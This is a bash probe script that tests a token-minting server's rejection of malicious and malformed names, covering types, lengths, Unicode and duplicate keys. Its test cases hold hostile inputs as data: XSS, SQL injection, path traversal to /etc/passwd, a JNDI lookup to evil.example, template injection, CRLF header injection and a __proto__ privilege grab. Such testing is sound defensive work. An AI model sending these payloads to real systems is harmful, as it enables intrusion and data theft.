#!/usr/bin/env bash
# Malicious-string probe (SPEC §7, security.md §9 B1–B26) under the default
# NAME_POLICY=strict. Field errors come after the limiter and use quota: run
# it against a server started with RATE_LIMIT_MAX=0.
#
#   BASE=http://127.0.0.1:7880 scripts/probes/strings.sh
set -u
. "$(dirname "$0")/lib.sh"
require_server

REQUIRED="Room name and participant name are required"

# refused CASE BODY: 400 invalid_argument, and the raw value is not echoed.
refused() {
	local c=$1 body=$2 echo_check=${3:-}
	mint "$body"
	expect "$c" "$(short "$body"): status" 400 "$STATUS"
	expect "$c" "code" invalid_argument "$(json_field code)"
	if [ -n "$echo_check" ]; then expect_absent "$c" "error text echoes input" "$echo_check" "$BODY"; fi
}

echo "# B1–B4 missing or empty names"
for b in '{"participantName":"u"}' '{"roomName":"r"}' '{"roomName":"","participantName":"u"}'; do
	mint "$b"
	expect_json_error B1-3 400 invalid_argument "$REQUIRED"
done
refused B4 '{"roomName":"   ","participantName":"u"}'

echo "# B5–B8 wrong types"
mint '{"roomName":123,"participantName":"u"}'
expect_json_error B5 400 invalid_argument "roomName must be a string"
refused B6 '{"roomName":["r"],"participantName":{"a":1}}'
refused B7 '{"roomName":null,"participantName":"u"}'
refused B8 '{"roomName":true,"participantName":false}'

echo "# B9, B10 lengths"
long200=$(head -c 200 /dev/zero | tr '\0' 'a')
long300=$(head -c 300 /dev/zero | tr '\0' 'a')
refused B9 "{\"roomName\":\"$long200\",\"participantName\":\"u\"}"
refused B9 "{\"roomName\":\"$long300\",\"participantName\":\"u\"}"
mint "{\"roomName\":\"$(head -c 128 /dev/zero | tr '\0' 'a')\",\"participantName\":\"u\"}"
expect B9 "128 characters: status" 200 "$STATUS"
mint "{\"roomName\":\"r\",\"participantName\":\"u\",\"participantIdentity\":\"$(head -c 2000 /dev/zero | tr '\0' 'a')\"}"
expect B10 "body over the cap: status" 413 "$STATUS"

echo "# B11–B16 injection strings are refused by the strict policy, never echoed"
refused B11 '{"roomName":"<script>alert(1)</script>","participantName":"u"}' '<script>'
refused B12 '{"roomName":"r","participantName":"u","participantIdentity":"\"><img src=x onerror=alert(1)>"}' '<img'
refused B13 "{\"roomName\":\"' OR '1'='1\",\"participantName\":\"u\"}" "OR '1'"
refused B13 "{\"roomName\":\"r'; DROP TABLE rooms;--\",\"participantName\":\"u\"}" 'DROP TABLE'
refused B14 '{"roomName":"../../etc/passwd","participantName":"u"}' 'etc/passwd'
refused B14 '{"roomName":"..\\..\\win.ini","participantName":"u"}' 'win.ini'
refused B14 '{"roomName":"%2e%2e%2f","participantName":"u"}' '%2e'
refused B15 '{"roomName":"r","participantName":"u","participantIdentity":"${jndi:ldap://evil.example/a}"}' 'jndi'
refused B16 '{"roomName":"{{7*7}}","participantName":"u"}' '{{7'
refused B16 '{"roomName":"#{7*7}","participantName":"u"}' '#{7'

echo "# B17–B20 control, format and surrogate characters (refused under both policies)"
refused B17 '{"roomName":"r","participantName":"u","participantIdentity":"alice\r\nX-Injected: 1"}' 'X-Injected'
refused B17 '{"roomName":"r","participantName":"alice\r\nX-Injected: 1"}' 'X-Injected'
expect B17 "no injected header" "" "$(hdr X-Injected)"
refused B18 '{"roomName":"room\u0000x","participantName":"u"}'
refused B19 '{"roomName":"a\u202Eb","participantName":"u"}'
refused B19 '{"roomName":"a\u200Bb","participantName":"u"}'
refused B20 '{"roomName":"\ud800","participantName":"u"}'

echo "# B21, B22 Unicode: names outside the strict set, display names fine"
refused B21 '{"roomName":"会议室","participantName":"Zoë","participantIdentity":"zoë"}'
mint '{"roomName":"r","participantName":"Zoë","participantIdentity":"zoe"}'
expect B21 "Unicode display name: status" 200 "$STATUS"
refused B22 '{"roomName":"r","participantName":"u","participantIdentity":"😀"}'
mint '{"roomName":"r","participantName":"😀"}'
expect B22 "emoji display name: status" 200 "$STATUS"

echo "# B23 keys match exactly"
mint '{"roomName":"r","participantName":"u","ROOMNAME":"x"}'
expect B23 "case variant ignored: status" 200 "$STATUS"
expect B23 "roomName" r "$(json_field roomName)"
mint '{"RoomName":"r","participantName":"u"}'
expect_json_error B23 400 invalid_argument "$REQUIRED"

echo "# B24 unknown keys never grant anything"
mint '{"roomName":"r","participantName":"u","roomAdmin":true,"canPublish":false,"__proto__":{"admin":true}}'
expect B24 status 200 "$STATUS"
claims=$(jwt_payload "$(json_field token)")
expect_contains B24 "token grants" '"canPublish":false' "$claims"
expect_absent B24 "token grants" 'roomAdmin' "$claims"
expect_absent B24 "token grants" '"admin"' "$claims"

echo "# B25 duplicate key: the last wins (SPEC §3.3)"
mint '{"roomName":"a","roomName":"b","participantName":"u"}'
expect B25 status 200 "$STATUS"
expect B25 roomName b "$(json_field roomName)"

echo "# B26 ttl out of range"
for ttl in 30 90000; do
	mint "{\"roomName\":\"r\",\"participantName\":\"u\",\"ttl\":$ttl}"
	expect B26 "ttl $ttl: status" 400 "$STATUS"
	expect_contains B26 "ttl $ttl: error names the field" ttl "$(json_field error)"
done

finish
